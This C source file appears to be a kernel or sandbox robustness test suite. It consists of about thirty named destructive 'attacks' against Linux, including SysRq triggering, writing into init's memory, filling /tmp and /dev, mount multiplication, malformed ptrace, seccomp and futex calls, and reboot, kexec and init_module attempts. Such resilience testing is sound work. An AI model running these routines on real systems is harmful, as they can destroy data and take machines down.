// SPDX-License-Identifier: GPL-2.0-only
/* Attacks by what is asked and never answered, by what is handed over in circles, and by sizes that nothing has. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/if_tun.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/fanotify.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/resource.h>
#include <sys/sem.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/timerfd.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define KERNEL	0xffffffff81000000UL
#define DIRECT	0xffff888000000000UL
#define STUBS	0xffffffffbe000000UL

static char page[65536] __attribute__((aligned(4096)));

static void set(const char *file, const char *text)
{
	int fd = open(file, O_WRONLY);

	write(fd, text, strlen(text));
	close(fd);
}

/* Each letter but c, which is meant to end the machine, b and o, which restart it or turn it off. */
static void every_key_of_the_operator(void)
{
	char letter[2] = "";

	set("/proc/sys/kernel/sysrq", "1");
	for (letter[0] = '!'; letter[0] < 127; letter[0]++)
		if (!strchr("cbo", letter[0]))
			set("/proc/sysrq-trigger", letter);
}

static void written_into(int pid)
{
	unsigned long at[] = { 0, 0x400000, DIRECT, KERNEL, STUBS, -4096UL, 0x7ffffffff000 };
	unsigned n;

	for (n = 0; n < sizeof(at) / sizeof(*at); n++) {
		struct iovec here = { page, sizeof(page) }, there = { (void *)at[n], -1UL >> n };

		process_vm_writev(pid, &here, 1, &there, 1, 0);
		process_vm_readv(pid, &here, 1, &there, 1, 0);
		syscall(SYS_process_madvise, syscall(SYS_pidfd_open, pid, 0), &there, 1, MADV_PAGEOUT, 0);
		syscall(SYS_move_pages, pid, 1, &there.iov_base, page, page + 8, 2);
		syscall(SYS_kcmp, pid, getpid(), n, at[n], at[n]);
	}
	syscall(SYS_pidfd_getfd, syscall(SYS_pidfd_open, pid, 0), 0, 0);
	syscall(SYS_migrate_pages, pid, -1UL, page, page);
}

/* A sealed file that is mapped, grown, shrunk and written all the same. */
static void seals(void)
{
	int fd = memfd_create("sealed", MFD_ALLOW_SEALING), seal;
	char *map;

	ftruncate(fd, 1 << 20);
	map = mmap(NULL, 1 << 20, 3, MAP_SHARED, fd, 0);
	for (seal = 0; seal < 64; seal++)
		fcntl(fd, F_ADD_SEALS, seal & ~F_SEAL_SEAL);
	pwrite(fd, page, sizeof(page), 0);
	ftruncate(fd, 1UL << 40), ftruncate(fd, 0);
	fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, -1UL >> 1);
	vmsplice(fd, &(struct iovec){ map, 1 << 20 }, 1, 0);
	mprotect(map, 1 << 20, 7);
	syscall(SYS_execveat, fd, "", NULL, NULL, AT_EMPTY_PATH);
	memset(map, 1, 1 << 20);
}

static void parents_that_wait(void)
{
	int depth;

	for (depth = 0; depth < 200; depth++)
		if (syscall(SYS_vfork))
			break;
	syscall(SYS_kill, getpid(), SIGSTOP);
	_exit(0);
}

/* A filter that asks a supervisor for each call; the supervisor is the program itself, and asks, too. */
static void supervisor_of_itself(int answers)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_ioctl, 1, 0),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog program = { 4, code };
	int listener;

	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	listener = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &program);
	memset(page, answers, sizeof(page));
	ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, page);
	ioctl(listener, SECCOMP_IOCTL_NOTIF_ADDFD, page);
	ioctl(listener, SECCOMP_IOCTL_NOTIF_ID_VALID, KERNEL);
	if (answers)
		ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, page);
	getppid();
}

static void bases_of_segments(void)
{
	unsigned long at[] = { 0, -1UL, KERNEL, DIRECT, STUBS, 1UL << 47, (1UL << 63) | 1 };
	unsigned code, n;

	for (code = 0x1000; code < 0x1030; code++)
		for (n = 0; n < 7; n++)
			if (!fork())
				syscall(SYS_arch_prctl, code, at[n]), getppid(), _exit(0);
	for (n = 0; n < 7; n++)
		if (!fork())
			syscall(SYS_set_thread_area, at[n]), syscall(SYS_modify_ldt, 1, at[n], 16), _exit(0);
}

static void words_as_large_as_allowed(void)
{
	static char word[131072], *words[600];
	int n;

	memset(word, 'x', sizeof(word) - 1);
	for (n = 0; n < 599; n++)
		words[n] = word;
	setrlimit(RLIMIT_STACK, &(struct rlimit){ RLIM_INFINITY, RLIM_INFINITY });
	execve("/bin/hostile", words, words);
	setrlimit(RLIMIT_STACK, &(struct rlimit){ 4096, 4096 });
	execve("/bin/hostile", words, words);
	syscall(SYS_execve, "/bin/hostile", KERNEL, words);
	syscall(SYS_execve, "/bin/hostile", page + sizeof(page) - 1, -8UL);
}

static void filled(const char *directory)
{
	char name[64];
	int n, fd;

	for (n = 0; n < 100000; n++) {
		snprintf(name, sizeof(name), "%s/%d", directory, n);
		fd = open(name, O_WRONLY | O_CREAT, 0600);
		if (fd < 0 || write(fd, page, sizeof(page)) < 0)
			break;
		close(fd);
	}
}

static void memory_file_system(const char *options)
{
	mkdir("/tmp/filled", 0777);
	mount("t", "/tmp/filled", "tmpfs", 0, options);
	filled("/tmp/filled");
}

static void core_of_gigabytes(void)
{
	int n;

	setrlimit(RLIMIT_CORE, &(struct rlimit){ RLIM_INFINITY, RLIM_INFINITY });
	set("/proc/self/coredump_filter", "ffffffff");
	set("/proc/sys/kernel/core_pattern", "/tmp/core");
	for (n = 0; n < 100; n++) {
		char *at = mmap(NULL, 100UL << 20, 3, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);

		at[50 << 20] = 1;
	}
	abort();
}

/* Mounts that propagate to each other: each doubles them. */
static void mounts_that_multiply(void)
{
	char name[64];
	int n;

	unshare(CLONE_NEWNS);
	mkdir("/tmp/m", 0777);
	mount("m", "/tmp/m", "tmpfs", 0, NULL);
	mount(NULL, "/tmp/m", NULL, MS_SHARED, NULL);
	for (n = 0; n < 25; n++) {
		snprintf(name, sizeof(name), "/tmp/m/%d", n);
		mkdir(name, 0777);
		mount("/tmp/m", name, NULL, MS_BIND | MS_REC, NULL);
	}
}

static void permissions_that_nobody_gives(void)
{
	int watch = fanotify_init(FAN_CLASS_PRE_CONTENT | FAN_UNLIMITED_QUEUE, O_RDWR);

	fanotify_mark(watch, FAN_MARK_ADD | FAN_MARK_MOUNT, FAN_OPEN_PERM | FAN_ACCESS_PERM, AT_FDCWD, "/");
	if (!fork())
		open("/bin/hostile", O_RDONLY);
	write(watch, page, 8);
	open("/bin/hostile", O_RDONLY);
}

static void watches_that_overflow(void)
{
	int watch = inotify_init(), n;

	inotify_add_watch(watch, "/tmp", IN_ALL_EVENTS);
	for (n = 0; n < 20000; n++) {
		close(open("/tmp/watched", O_CREAT | O_RDWR, 0600));
		rename("/tmp/watched", "/tmp/seen");
	}
}

static void events_that_wake_each_other(void)
{
	int a = epoll_create1(0), n, events[64];
	struct epoll_event event = { .events = EPOLLIN | EPOLLOUT | EPOLLET | EPOLLEXCLUSIVE };

	for (n = 0; n < 64; n++) {
		events[n] = eventfd(n & 1 ? -2U : 0, EFD_SEMAPHORE);
		epoll_ctl(a, EPOLL_CTL_ADD, events[n], &event);
	}
	event.events = EPOLLIN;
	epoll_ctl(a, EPOLL_CTL_ADD, a, &event);
	for (n = 0; n < 5000; n++) {
		epoll_wait(a, (void *)page, 1000, 0);
		write(events[n & 63], &(uint64_t){ 1 }, 8);
	}
	epoll_wait(a, (void *)KERNEL, 0x7fffffff, 0);
	write(events[0], &(uint64_t){ -2UL }, 8);
	write(events[0], &(uint64_t){ 1 }, 8);
}

static void timers_of_a_nanosecond(void)
{
	struct itimerspec often = { { 0, 1 }, { 0, 1 } };
	int n;

	for (n = 0; n < 2000; n++) {
		int fd = timerfd_create(n & 1 ? CLOCK_MONOTONIC : CLOCK_REALTIME, TFD_NONBLOCK);

		timerfd_settime(fd, n & TFD_TIMER_CANCEL_ON_SET, &often, NULL);
		read(fd, page, 8);
	}
	for (;;)
		getppid();
}

static void descriptors_in_a_circle(void)
{
	struct { struct cmsghdr head; int fds[253]; } control = { { sizeof(control), SOL_SOCKET, SCM_RIGHTS }, { 0 } };
	struct iovec one = { page, 1 };
	struct msghdr message = { .msg_iov = &one, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof(control) };
	int pair[2], n, k;

	for (n = 0; n < 200; n++) {
		socketpair(AF_UNIX, SOCK_DGRAM, 0, pair);
		for (k = 0; k < 253; k++)
			control.fds[k] = pair[k & 1];
		sendmsg(pair[0], &message, MSG_DONTWAIT);
		sendmsg(pair[1], &message, MSG_DONTWAIT);
		close(pair[0]), close(pair[1]);
	}
}

static void locks_in_a_circle(void)
{
	unsigned *words = (unsigned *)page;
	int n;

	for (n = 0; n < 4; n++) {
		words[n] = n ? (unsigned)getpid() : 0x40000001;
		if (!fork())
			syscall(SYS_futex, words + n, 6 /* FUTEX_LOCK_PI */, 0, NULL), _exit(0);
	}
	syscall(SYS_futex, words, 12 /* FUTEX_CMP_REQUEUE_PI */, 1, 100, words, 0);
	syscall(SYS_futex, words, 11 /* FUTEX_WAIT_REQUEUE_PI */, 0, NULL, words);
	syscall(SYS_futex_waitv, page, 128, 0, NULL, 0);
}

static void schedules(void)
{
	unsigned policy;

	for (policy = 0; policy < 10; policy++) {
		uint64_t attr[7] = { 56 | (uint64_t)policy << 32, -1UL, policy << 4, 1 << 20, 1 << 21, 1 << 22, 0 };

		syscall(SYS_sched_setattr, 0, attr, 0);
		syscall(SYS_sched_setattr, 1, attr, 0);
		syscall(SYS_sched_setattr, 2, attr, 0);
		sched_yield();
	}
	for (;;)
		sched_yield();
}

static void memory_described_anew(void)
{
	unsigned long at[] = { 0, 4096, KERNEL, DIRECT, 0x7fffffffe000, -1UL };
	unsigned what, n;

	for (what = 1; what < 16; what++)
		for (n = 0; n < 6; n++)
			prctl(PR_SET_MM, what, at[n], n * 65536, 0);
	prctl(59 /* PR_SET_SYSCALL_USER_DISPATCH */, 1, 0, 0, KERNEL);
	for (what = 0; what < 80; what++)
		if (!fork())
			prctl(what, KERNEL, DIRECT, page, -1UL), getppid(), _exit(0);
	syscall(SYS_remap_file_pages, page, -4096UL, 0, -1UL, 0);
	syscall(SYS_mlockall, 7);
	syscall(SYS_personality, -2);
	syscall(SYS_brk, -1UL);
}

static void undone_at_the_end(void)
{
	int set = semget(IPC_PRIVATE, 32000, 0600), n;
	struct sembuf many[500];

	for (n = 0; n < 500; n++)
		many[n] = (struct sembuf){ n * 64, 1, SEM_UNDO };
	semop(set, many, 500);
	if (!fork())
		semop(set, many, 500), abort();
	semctl(set, 0, IPC_RMID);
	syscall(SYS_mq_open, "strain", O_CREAT | O_RDWR, 0600, (long[]){ 0, 1000000, 1 << 30, 0 });
	syscall(SYS_io_setup, 65536, page);
	*(unsigned long *)page = KERNEL;
	syscall(SYS_io_submit, KERNEL, 1, page);
	syscall(SYS_io_destroy, DIRECT);
}

static void networks(void)
{
	int domain, type;

	unshare(CLONE_NEWNET | CLONE_NEWUSER);
	for (domain = 0; domain < 48; domain++)
		for (type = 1; type < 11; type++) {
			int s = socket(domain, type, 0);

			memset(page, 0xff, 64);
			bind(s, (void *)page, 110), connect(s, (void *)page, 110);
			sendto(s, page, 60000, MSG_DONTWAIT, (void *)page, 128);
			setsockopt(s, SOL_SOCKET, SO_ATTACH_FILTER, page, 16);
			setsockopt(s, 270, 1, page, 4), setsockopt(s, 263, 5, page, 16), setsockopt(s, 279, 1, page, 64);
			ioctl(s, 0x8933, KERNEL), ioctl(s, 0x8914, page), shutdown(s, 2), close(s);
		}
}

static void interfaces(void)
{
	int n;

	for (n = 0; n < 50; n++) {
		struct { char name[16]; short flags; char rest[22]; } wish = { "", n & 1 ? IFF_TAP : IFF_TUN, "" };
		int fd = open("/dev/net/tun", O_RDWR | O_NONBLOCK);

		memset(wish.name, "%/\n\033."[n % 5], 15);
		ioctl(fd, TUNSETIFF, &wish);
		write(fd, page, 65000), read(fd, page, 65000);
	}
}

static void traces_itself(void)
{
	int child = fork(), request;

	if (!child) {
		ptrace(PTRACE_TRACEME, 0, 0, 0);
		for (;;)
			raise(SIGSTOP);
	}
	for (request = 0; request < 0x4220; request += request < 40 ? 1 : request < 0x4200 ? 0x41d8 : 1) {
		waitpid(child, NULL, WNOHANG);
		ptrace(request, child, (void *)KERNEL, (void *)DIRECT);
		ptrace(request, child, (void *)1UL, page);
		ptrace(request, 1, (void *)-8UL, (void *)-1UL);
		ptrace(request, getpid(), 0, 0);
	}
	ptrace(PTRACE_POKEUSER, child, 848, KERNEL), ptrace(PTRACE_POKEUSER, child, 848 + 56, -1UL);
	ptrace(PTRACE_SETREGSET, child, 0x202, &(struct iovec){ page, 4096 });
}

static void restarts(void)
{
	unsigned command;

	for (command = 1; command; command <<= 1)
		reboot(command), syscall(SYS_reboot, 0xfee1dead, 672274793, command, KERNEL);
	syscall(SYS_kexec_load, KERNEL, 16, page, 0x3e0000);
	syscall(SYS_kexec_file_load, 0, 0, -1UL, KERNEL, 4);
	syscall(SYS_init_module, page, -1UL, KERNEL), syscall(SYS_init_module, page, 1UL << 40, "");
	syscall(SYS_delete_module, KERNEL, 0x800), syscall(SYS_finit_module, 0, page, 7);
}

#define ATTACKS(X)									\
	X(every_key_of_the_operator, every_key_of_the_operator()) X(written_into_init, written_into(1)) \
	X(written_into_kthreadd, written_into(2)) X(written_into_itself, written_into(getpid())) X(seals, seals()) \
	X(parents_that_wait, parents_that_wait()) X(supervisor_asks_itself, supervisor_of_itself(0)) \
	X(supervisor_answers_anything, supervisor_of_itself(1)) X(supervisor_of_ones, supervisor_of_itself(255)) \
	X(bases_of_segments, bases_of_segments()) X(words_as_large_as_allowed, words_as_large_as_allowed()) \
	X(root_filled, filled("/tmp")) X(devices_filled, filled("/dev")) X(memory_filled, memory_file_system("size=100%")) \
	X(memory_of_no_inodes, memory_file_system("nr_inodes=0,size=0,huge=always,mpol=bind:99")) \
	X(memory_of_one_inode, memory_file_system("nr_inodes=2")) X(core_of_gigabytes, core_of_gigabytes()) \
	X(mounts_that_multiply, mounts_that_multiply()) X(permissions_that_nobody_gives, permissions_that_nobody_gives()) \
	X(watches_that_overflow, watches_that_overflow()) X(events_that_wake_each_other, events_that_wake_each_other()) \
	X(timers_of_a_nanosecond, timers_of_a_nanosecond()) X(descriptors_in_a_circle, descriptors_in_a_circle()) \
	X(locks_in_a_circle, locks_in_a_circle()) X(schedules, schedules()) X(memory_described_anew, memory_described_anew()) \
	X(undone_at_the_end, undone_at_the_end()) X(networks, networks()) X(interfaces, interfaces()) \
	X(traces_itself, traces_itself()) X(restarts, restarts())

#include "attacks.h"
